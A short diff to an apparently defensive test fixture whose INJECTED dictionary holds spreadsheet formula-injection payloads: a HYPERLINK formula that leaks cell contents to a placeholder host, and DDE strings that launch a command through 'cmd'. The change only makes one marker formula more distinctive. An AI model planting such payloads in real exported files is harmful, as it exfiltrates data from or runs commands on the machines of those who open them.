@@ -495,7 +495,7 @@ def write_prices(directory: Path) -> dict[str, Path]:
 
 INJECTED = {
     "name_en": '=HYPERLINK("http://example.invalid/?leak="&A1,"Biren Technology")',
-    "name_zh": "=1+1",
+    "name_zh": "=1+1*7919",  # distinctive: "1+1" alone is part of formulas such as =C31+1
     "exchange": "+cmd|' /C calc'!A0",
     "ticker": "@SUM(1+1)*cmd|' /C calc'!A0",
 }
